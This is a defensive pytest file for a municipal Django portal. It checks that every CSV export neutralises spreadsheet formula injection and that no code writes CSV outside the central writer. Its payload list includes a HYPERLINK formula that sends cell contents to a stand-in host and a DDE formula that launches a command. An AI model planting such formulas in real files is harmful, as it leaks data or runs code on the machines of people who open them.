"""Every CSV the portal writes goes through reisbureau/csvexport.py and carries no live formula.

`test_every_csv_export_neutralises_hostile_text` fills every free-text field of the demo
municipality with spreadsheet formulas (and people's names and e-mail addresses, audit entries
and customs measures through the services), then downloads every CSV export the URLconf routes
to a view registered with `@csv_export`, as a role the access matrix lets in, and checks every
cell. `test_no_csv_is_written_outside_the_writer` scans the portal's source, so a new export that
writes CSV itself fails here instead of slipping past the registry.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.db.models import CharField, TextField
from django.test import Client
from django.urls import URLPattern, get_resolver, reverse

from reisbureau import csvexport
from tests import access

HYPERLINK = '=HYPERLINK("http://example.org/?d="&A1;"Details")'
CALC = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CALC, "@SUM(1+1)", "+1", "-1+2", "\t=1+1", "\r=2+2", "-cmd", "+SUM(A1)"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# What a spreadsheet reads as a plain number (and therefore runs nothing): 5, -5, +1, -2,5, 1e3.
GENUINE_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

PORTAL_APPS = ("reisbureau", "journeys", "customs", "community", "impact", "algoritmeregister")
# Append-only tables (refuse UPDATE): their rows get hostile text through the services below.
APPEND_ONLY = {"reisbureau.auditentry", "customs.customsdecision"}
# Not free text: codes, secrets and machine values that no person types.
NOT_FREE_TEXT = ("email", "password", "token", "filename", "tool", "username", "action",
                 "status", "kind", "wave", "format", "mode", "language", "url")


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    yield from access.demo_world(django_db_blocker)


def _free_text_fields(model):
    return [f for f in model._meta.concrete_fields
            if isinstance(f, CharField | TextField) and not f.choices
            and f.name not in NOT_FREE_TEXT and not f.name.endswith(("_url", "_key", "hash"))
            and not f.name.startswith(("search", "slug"))]


def _poison_every_free_text_field():
    index = 0
    for model in apps.get_models():
        if model._meta.app_label not in PORTAL_APPS or model._meta.label_lower in APPEND_ONLY:
            continue
        fields = _free_text_fields(model)
        if not fields:
            continue
        for pk in model.objects.order_by("pk").values_list("pk", flat=True)[:200]:
            values = {}
            for f in fields:
                index += 1
                value = PAYLOADS[index % len(PAYLOADS)]
                if f.unique:
                    value = f"{value} {pk}"
                values[f.name] = value[:f.max_length] if f.max_length else value
            model.objects.filter(pk=pk).update(**values)


def _hostile_people_and_entries(users):
    """People's names and e-mail addresses, and prompts (through the service, so their titles
    reach the audit trail as its objects, the issue's case)."""
    from community import services as community_services
    from reisbureau.models import User

    people = list(User.objects.filter(email__startswith="medewerker").order_by("pk")[:40])
    for i, person in enumerate(people):
        User.objects.filter(pk=person.pk).update(
            first_name=PAYLOADS[i % len(PAYLOADS)], last_name=PAYLOADS[(i + 1) % len(PAYLOADS)])
    User.objects.filter(pk=people[0].pk).update(first_name=CALC, last_name="")
    # E-mail addresses may start with these characters too (RFC 5322 allows them).
    for i, local in enumerate(["=1+1", "-1+2", "@x"]):
        User.objects.filter(pk=people[i + 1].pk).update(
            email=f"{local}@voorbeeldstad.example", first_name=local, last_name="Jansen")
    hostile_actor = User.objects.get(pk=people[1].pk)
    assert hostile_actor.email == "=1+1@voorbeeldstad.example"

    for payload in PAYLOADS:
        community_services.prompt_create(author=hostile_actor, title=payload,
                                         text="Vat deze tekst samen.")


def _decide_with_hostile_measures(users):
    """Free-text measures through the customs service (before the task texts change, which
    would make the submission undecidable)."""
    from customs import services as customs_services
    from customs.constants import Decision
    from customs.models import Submission

    officer = users["officer"]
    submission = Submission.objects.filter(status="open").exclude(
        task__journey__adviser=officer).order_by("pk").first()
    assert submission is not None
    customs_services.decision_record(
        submission=submission, officer=officer, decision=Decision.CLEARED_WITH_MEASURES,
        extra_measures="\n".join(PAYLOADS), rationale=HYPERLINK)


def _registered_exports():
    """(URL name, Export) for every URL pattern whose view is registered with @csv_export."""
    found = {}
    for name, pattern in _named_patterns(get_resolver().url_patterns):
        view = pattern.callback
        while view is not None:
            if view in csvexport.EXPORTS:
                found[name] = (view, csvexport.EXPORTS[view])
                break
            view = getattr(view, "__wrapped__", None)
    return found


def _named_patterns(patterns, namespace=None):
    for p in patterns:
        if isinstance(p, URLPattern):
            if p.name:
                yield (f"{namespace}:{p.name}" if namespace else p.name), p
        else:
            ns = namespace
            if p.namespace:
                ns = f"{namespace}:{p.namespace}" if namespace else p.namespace
            yield from _named_patterns(p.url_patterns, ns)


def _download(client, url, query):
    response = client.get(url, query)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"] == "text/csv; charset=utf-8", url
    text = response.content.decode("utf-8")
    # Dutch Excel files start with a BOM and use semicolons; machine files use commas.
    if text.startswith("\ufeff"):
        return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    return list(csv.reader(io.StringIO(text)))


def test_every_registered_export_is_routed_and_the_known_ones_are_registered():
    found = _registered_exports()
    assert {view for view, _export in found.values()} == set(csvexport.EXPORTS)
    assert set(found) >= {
        "customs:audit", "customs:register_export", "learning:literacy_register",
        "impact:dashboard", "impact:ranking", "impact:survey_detail", "impact:governance_report",
    }


@pytest.mark.django_db
def test_every_csv_export_neutralises_hostile_text(world):
    users, objects = world
    _decide_with_hostile_measures(users)
    _poison_every_free_text_field()
    _hostile_people_and_entries(users)
    from impact import services as impact_services

    impact_services.rollup_rebuild(full=True)
    from django.core.cache import cache

    cache.clear()

    exports = _registered_exports()
    live, neutralised, numbers = [], {}, {}
    for name, (_view, export) in sorted(exports.items()):
        row = access.MATRIX[name]
        role = next(r for r in access.ROLES if row.expected(r) == 200)
        client = Client()
        client.force_login(users[role])
        url = reverse(name, kwargs={**row.kwargs(objects), **export.kwargs})
        rows = _download(client, url, export.query)
        assert len(rows) > 1, f"{name}: no rows to check"
        neutralised[name] = numbers[name] = 0
        for line in rows:
            for value in line:
                if value.startswith("'") and value[1:].startswith(DANGEROUS):
                    neutralised[name] += 1
                elif value.startswith(DANGEROUS):
                    if GENUINE_NUMBER.fullmatch(value):
                        numbers[name] += 1
                    else:
                        live.append(f"{name}: {value!r}")
    assert not live, "\n".join(live)
    # The hostile text really reached the exports that show free text (the test can fail).
    assert {n for n, count in neutralised.items() if count} >= {
        "customs:audit", "customs:register_export", "learning:literacy_register",
        "impact:dashboard", "impact:ranking", "impact:survey_detail"}, neutralised
    audit = _download(_client(users["officer"]), reverse("customs:audit"), {"formaat": "csv"})
    assert any(cell == "'" + HYPERLINK for line in audit for cell in line)
    # The trail shows the actor by their current name (it stores only the id).
    assert any(line[1] == "'=1+1 Jansen" for line in audit)
    register = _download(_client(users["manager"]), reverse("learning:literacy_register"),
                         {"formaat": "csv"})
    assert any(line[0] == "'" + CALC for line in register)


def _client(user):
    client = Client()
    client.force_login(user)
    return client


# --- No CSV outside the writer ---------------------------------------------------------------

RAW_CSV = re.compile(r"csv\.writer\s*\(|DictWriter|from\s+csv\s+import[^\n]*writer|text/csv")
NOT_PORTAL = {"tests", "bench", "loadtest", "node_modules", "staticfiles", "scripts", "deploy",
              "docs", "locale", "static", "templates"}


def _portal_sources():
    root = Path(settings.BASE_DIR)
    for package in sorted(root.iterdir()):
        if package.name in NOT_PORTAL or package.name.startswith(".") \
                or not (package / "__init__.py").exists():
            continue
        for path in sorted(package.rglob("*.py")):
            if "migrations" not in path.parts:
                yield root, path


# CSV the portal writes for itself, never offered as a download: neutralising formulas there
# would change the data it reads back.
CSV_NOT_FOR_PEOPLE = {
    # The Microsoft Graph usage report, rewritten as the admin center's CSV so the one importer
    # reads it (its file is deleted when the import is done).
    "impact/graph_usage.py",
}


def test_no_csv_is_written_outside_the_writer():
    scanned, raw = [], []
    for root, path in _portal_sources():
        relative = path.relative_to(root).as_posix()
        scanned.append(relative)
        if relative == "reisbureau/csvexport.py" or relative in CSV_NOT_FOR_PEOPLE:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if RAW_CSV.search(line):
                raw.append(f"{relative}:{number}: {line.strip()}")
    assert "impact/views.py" in scanned and "customs/exports.py" in scanned
    assert not raw, ("CSV written outside reisbureau/csvexport.py (use csvexport.response and "
                     "@csv_export):\n" + "\n".join(raw))


def test_the_source_scan_would_catch_a_raw_writer():
    for line in ("writer = csv.writer(out)", "csv.DictWriter(out, fieldnames=f)",
                 'HttpResponse(data, content_type="text/csv")', "from csv import writer"):
        assert RAW_CSV.search(line), line
